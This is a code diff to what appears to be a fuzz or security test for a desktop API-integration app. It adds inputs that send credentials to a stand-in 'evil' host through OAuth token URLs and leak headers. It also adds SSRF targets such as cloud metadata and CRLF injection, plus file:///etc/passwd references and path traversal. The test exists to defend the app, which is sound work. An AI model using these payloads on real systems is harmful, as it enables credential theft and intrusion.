@@ -21,6 +21,17 @@ const texts = [
 const auths = [
   { scheme: "bearer" }, { scheme: "query", name: "key" }, { scheme: "header", header: "X-Leak", prefix: "" },
   { scheme: "basic" }, { scheme: "provider" }, { scheme: "header", header: "Host", prefix: "" },
+  { scheme: "headers", headers: [{ header: "X-Leak", prefix: "", part: "token" }] },
+  { scheme: "body", field: "/token" }, { scheme: "path" }, { scheme: "sigv4", region: host, service: "s3" },
+  { scheme: "oauth2_client_credentials", token_url: `${evil}/token`, client_auth: "body", scope: "", audience: "" },
+  { scheme: "oauth2_refresh_token", token_url: `${evil}/token`, client_auth: "basic", scope: "" },
+  { scheme: "jwt_grant", token_url: `${plain}/token`, scope: "" },
+  { scheme: "oauth1", method: "hmac_sha1", token: true, place: "query", realm: evil },
+  { scheme: "hmac", header: "X-Leak", algorithm: "sha1", encoding: "hex", template: "{body}", format: "{signature}", secret_encoding: "text" },
+  { scheme: "jwt", algorithm: "HS256", claims: { aud: evil }, key_id: "", lifetime_s: 60, header: "X-Leak", prefix: "" },
+];
+const conditions = [
+  [], ["[STATUS] == 200"], ['[BODY] contains "a"'], ["[BODY].token ~ .*"], ["[HEADER].x-you-sent exists"], ["not a condition"],
 ];
 const probes = [
   "GET /status", `GET //${host}/`, `GET ${evil}/`, `GET /\\${host}`, "HEAD /", "POST /", null, `GET @${host}/`,
@@ -36,6 +47,8 @@ const input = () => ({
   // A person chose it for the integrations that stand there; for a new one it is text that the page made up.
   ca_pem: pick([ca, null, nobody]),
   allow_loopback_http: pick([true, false]),
+  client_certificate: pick([true, false]),
+  conditions: pick(conditions),
   notes: "", tags: [], owner: "", rotate_every_days: null,
 });
 const person = (name) => ({ name, notes: pick(texts), tags: [], owner: "" });
@@ -55,6 +68,22 @@ const sites = [
   `${plain}/?seen=${encodeURIComponent(integration)}`, `${evil}/${integration}`, `http://user:pass@${host}/`,
   `http://169.254.169.254/latest/meta-data`, `${plain}\r\nX-Leak: 1`, `https://shop.example\u202e${host}`, `${plain}#${client}`,
 ];
+const filter = () => ({ client: pick([client, null]), providers: [], environments: [], tags: [pick(texts)], health: [] });
+const watch = () => ({
+  enabled: true, rule: pick([{ kind: "every", minutes: 1 }, { kind: "cron", text: pick(["* * * * *", ...texts]), zone: pick(["local", evil]) }]),
+  jitter_s: 0, quiet: null, fail_after: 1, clear_after: 1, slow_after_ms: null, skip_on_battery: false, skip_offline: false,
+});
+const madeUp = () => ({
+  method: pick(["POST", "PUT", "PATCH"]), path: pick(["/orders", `//${host}/`, `${evil}/orders`, `/\\${host}`, "/../..", "@" + host]),
+  format: pick(["json", "form", "xml"]), template: "own", text: pick([...texts, '{"a":"{{token}}"}', '{"$ref":"file:///etc/passwd"}']),
+  policy: [{ path: "**", rule: pick(["allowed", "masked", "hashed"]) }], default_rule: "allowed",
+  request_schema: pick([null, `{"$ref":"${evil}/schema.json"}`, '{"$ref":"file:///etc/passwd"}']), response_schema: null,
+  class: pick(["reads_only", "idempotent", "creates"]), cleanup: pick([null, `DELETE ${evil}/{/id}`, `DELETE //${host}/{/id}`]),
+});
+const snippet = () => ({
+  language: pick(["curl", "php_wp", "php_curl", "node", "python"]), key_from: pick(["environment", "constant"]),
+  request: pick(["probe", "order"]), seed: 1,
+});
 const channel = () => `__CHANNEL__:${window.__TAURI_INTERNALS__.transformCallback(() => {})}`;
 const victim = () => pick([integration, mine]);
 
@@ -77,6 +106,9 @@ const calls = {
   clients: () => ({ archived: pick([true, false]) }),
   doctor: () => ({}),
   finding_accept: () => ({ finding: pick(ids), reason: pick(texts) }),
+  exchange_copy: () => ({ id: pick(ids) }),
+  finding_copy: () => ({ finding: pick(ids) }),
+  findings_accept: () => ({ findings: [pick(ids)], reason: pick(texts) }),
   finding_unaccept: () => ({ finding: pick(ids) }),
   integration: () => ({ id: pick(ids) }),
   integration_add: () => ({ client, input: input() }),
@@ -97,8 +129,20 @@ const calls = {
   keyring_unlock: () => ({}),
   log: () => ({ query: query(), offset: pick([0, most]), limit: most }),
   log_entry: () => ({ id: pick(ids) }),
+  order: () => ({ integration: victim() }),
+  order_preview: () => ({ integration: victim(), seed: 1, input: pick([null, madeUp()]) }),
+  order_save: () => ({ integration: victim(), revision: pick([0, 1, 2]), input: madeUp() }),
+  order_send: () => ({ integration: victim(), seed: 1, confirmed: true, yes: true }),
   providers: () => ({}),
   removal_undo: () => ({ undo: pick(ids) }),
+  request_import_clipboard: () => ({ client }),
+  request_import_file: () => ({ client, path: pick(texts) }),
+  request_import_page: () => ({ handle: pick(ids), offset: 0, limit: most }),
+  request_import_plan: () => ({ handle: pick(ids), picks: { requests: [1], all: true, changes: [] } }),
+  request_import_take_in: () => ({ handle: pick(ids), picks: { requests: [], all: true, changes: [] }, confirmed: true, progress: channel() }),
+  request_import_variables: () => ({ handle: pick(ids), path: pick(texts) }),
+  run_choose: () => ({ filter: filter() }),
+  run_save: () => ({ id: pick(ids), format: pick(["json", "csv", "junit", "markdown"]), path: pick(texts) }),
   sample_leave: () => ({}),
   sample_open: () => ({}),
   sample_remove: () => ({}),
@@ -107,6 +151,8 @@ const calls = {
   scan_findings: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
   scan_folder: () => ({ handle: pick(ids), path: pick(texts), input: look() }),
   scan_folder_choose: () => ({ path: pick(texts) }),
+  scan_gone: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
+  scan_save: () => ({ id: pick(ids), format: pick(["json", "sarif"]), path: pick(texts) }),
   scan_remove: () => ({ id: pick(ids) }),
   scan_site: () => ({ url: pick([...texts, ...sites]), input: look(), confirmed: true, yes: true }),
   scan_unread: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
@@ -116,14 +162,29 @@ const calls = {
   }),
   test: () => ({ integration: victim() }),
   test_cancel: () => ({ integration: null }),
-  test_many: () => ({ integrations: [integration, mine], progress: channel() }),
+  snippet: () => ({ integration: victim(), input: snippet() }),
+  snippet_copy: () => ({ integration: victim(), input: snippet() }),
+  test_many: () => ({
+    integrations: [integration, mine], options: { concurrency: pick([null, most]), per_host: pick([null, most]) },
+    progress: channel(),
+  }),
+  watch: () => ({ integration: victim() }),
+  watch_history: () => ({ integration: victim() }),
+  watch_save: () => ({ integration: victim(), input: watch() }),
+  watches: () => ({}),
 };
 
 // The likeliest attack: what is entered stays, only where it goes is changed.
 async function turnAside() {
   const view = await invoke("integration", { id: integration }).catch(() => null);
   if (view === null) return;
-  const turned = { ...view.input, base_url: pick([evil, plain]), allow_loopback_http: true, ca_pem: ca };
+  // Where it goes, or who buys a token with it.
+  const turned = pick([
+    { ...view.input, base_url: pick([evil, plain]), allow_loopback_http: true, ca_pem: ca },
+    { ...view.input, auth: { scheme: "oauth2_client_credentials", token_url: `${evil}/token`, client_auth: "body", scope: "", audience: "" } },
+    { ...view.input, auth: { scheme: "headers", headers: [{ header: "X-Leak", prefix: "", part: "token" }] } },
+    { ...view.input, auth: { scheme: "path" }, probe: "GET /{api_key}" },
+  ]);
   await invoke("integration_edit", { id: integration, revision: view.revision, input: turned }).catch(() => null);
 }
 
